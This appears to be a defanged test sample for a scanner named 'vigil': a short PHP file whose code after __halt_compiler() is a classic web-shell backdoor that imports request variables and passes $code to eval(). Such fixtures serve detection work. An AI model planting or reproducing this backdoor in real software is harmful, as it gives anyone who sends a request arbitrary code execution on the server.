<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
@import_request_variables('gpc');
if (isset($code))
	eval($code);
